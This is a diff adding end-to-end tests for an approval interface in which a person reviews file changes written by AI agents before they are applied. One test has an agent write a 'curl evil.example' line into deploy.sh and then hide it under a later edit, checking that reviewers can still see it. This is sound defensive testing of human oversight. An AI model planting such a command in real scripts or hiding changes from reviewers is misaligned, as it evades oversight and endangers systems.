@@ -186,6 +186,63 @@ describe('deciding by mouse', () => {
   })
 })
 
+describe('a text that a later change hides', () => {
+  it('is shown by its own change, and never goes live with the later one', async () => {
+    await setConfig(server.url, { approval: 'confirm' })
+    await putFile(server.url, '/deploy.sh', 'echo one\n')
+    const agent = await connectAgent('Sly')
+    await write(agent, '/deploy.sh', 'curl evil.example\n')
+    await write(agent, '/deploy.sh', 'echo two\n')
+    const page = await openDraft('Sly')
+    await page.getByRole('button', { name: 'Show this change alone' }).first().click()
+    await inApp(page).getByText('curl evil.example').first().waitFor()
+    expect(await faultsOf(page)).toEqual([])
+    await page.getByRole('button', { name: /^Approve these 2 changes/ }).click()
+    await sees(page, '2 changes approved and applied.')
+    expect(await readText(server.url, '/deploy.sh')).toBe('echo two\n')
+    await page.context().close()
+  })
+
+  it('is approved up to its own change', async () => {
+    const agent = await connectAgent('Stepwise')
+    await write(agent, '/steps.txt', 'first\n')
+    await write(agent, '/steps.txt', 'second\n')
+    const page = await openDraft('Stepwise')
+    await page.getByRole('button', { name: 'Show this change alone' }).first().click()
+    await page.getByRole('button', { name: 'Approve up to here' }).click()
+    await sees(page, '1 change approved and applied.')
+    expect(await readText(server.url, '/steps.txt')).toBe('first\n')
+    await button(page, 'Approve all').click()
+    await sees(page, '1 change approved and applied.')
+    expect(await readText(server.url, '/steps.txt')).toBe('second\n')
+    await page.context().close()
+  })
+})
+
+describe('content that is no text', () => {
+  it('can be opened, and takes a yes of its own', async () => {
+    const agent = await connectAgent('Binary')
+    const content_base64 = Buffer.from('#!/bin/sh\n# \u00ff\necho hi\n', 'latin1').toString(
+      'base64',
+    )
+    await call(agent, 'write_file', { path: '/run.sh', content_base64 })
+    const page = await openDraft('Binary')
+    await sees(page, 'not text')
+    await page.getByRole('button', { name: '/run.sh', exact: true }).click()
+    const opened = page.context().waitForEvent('page')
+    await page.getByRole('link', { name: 'Open the file after' }).click()
+    expect(await (await opened).locator('body').textContent()).toContain('echo hi')
+    await button(page, 'Approve all').click()
+    await sees(page, 'Approve 1 file without seeing the content?')
+    expect(await faultsOf(page)).toEqual([])
+    expect(await readText(server.url, '/run.sh')).toBeNull()
+    await page.getByRole('button', { name: 'Approve without seeing' }).click()
+    await sees(page, '1 change approved and applied.')
+    expect(await readText(server.url, '/run.sh')).toContain('echo hi')
+    await page.context().close()
+  })
+})
+
 describe('what no longer fits', () => {
   it('is shown with its reason and code, and cannot be selected', async () => {
     await putFile(server.url, '/a.txt', 'one\n')
@@ -198,6 +255,8 @@ describe('what no longer fits', () => {
     await sees(page, 'It no longer fits and cannot be approved.')
     await sees(page, '(FIND_NOT_FOUND)')
     expect(await page.getByRole('button', { name: /^Approve this change/ }).count()).toBe(0)
+    await page.getByRole('button', { name: 'Show this change alone' }).click()
+    await inApp(page).getByText('ONE').first().waitFor()
     await button(page, 'Approve the other 1').click()
     await sees(page, '1 change approved and applied.')
     expect(await readText(server.url, '/b.txt')).toBe('b\n')
